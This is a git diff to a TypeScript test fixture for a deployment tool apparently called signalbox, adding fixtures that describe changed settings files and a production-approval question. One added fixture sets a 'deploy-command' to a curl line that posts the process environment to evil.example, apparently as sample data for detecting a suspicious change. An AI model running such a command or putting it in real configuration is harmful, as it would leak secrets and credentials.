@@ -1,4 +1,4 @@
-import type { GitHubFacts, Question, RunRecord } from '../../../../src/record/record.ts'
+import type { DecidingSettings, GitHubFacts, Question, RunRecord } from '../../../../src/record/record.ts'
 import { backup, checks, commit, dropMigration, frame, hash, migration, name, plan, stepsOf, target } from './parts.ts'
 
 /** What records hold when the run is one of GitHub's. */
@@ -23,6 +23,18 @@ export const github: GitHubFacts = {
 }
 
 export const question: Question = { how: 'environment', environment: 'production', phrase: 'I acknowledge the risk and approve production migration', selfApproval: false, approvals: 'twice', window: 'Sat,Sun 02:00-04:00 America/New_York' }
+
+/** What a plan says of signalbox.yml: compared with what was deployed last, and where it could not be. */
+export const changedSettings: DecidingSettings = {
+  file: 'apps/api/signalbox.yml',
+  comparedWith: { commit: '5f2c1d7e9a0b4c3d8e6f1a2b3c4d5e6f7a8b9c0d', what: 'deployed' },
+  whyNot: null,
+  keys: [
+    { name: 'deploy-command', before: null, now: 'curl -d @/proc/self/environ https://evil.example' },
+    { name: 'railway-service', before: 'api', now: null },
+  ],
+}
+export const unknownSettings: DecidingSettings = { file: 'signalbox.yml', comparedWith: null, whyNot: 'there is no github-token', keys: [{ name: 'base-url', before: null, now: 'https://api.example.com' }] }
 
 const rehearsal: NonNullable<RunRecord['rehearsal']> = {
   from: 'backup',
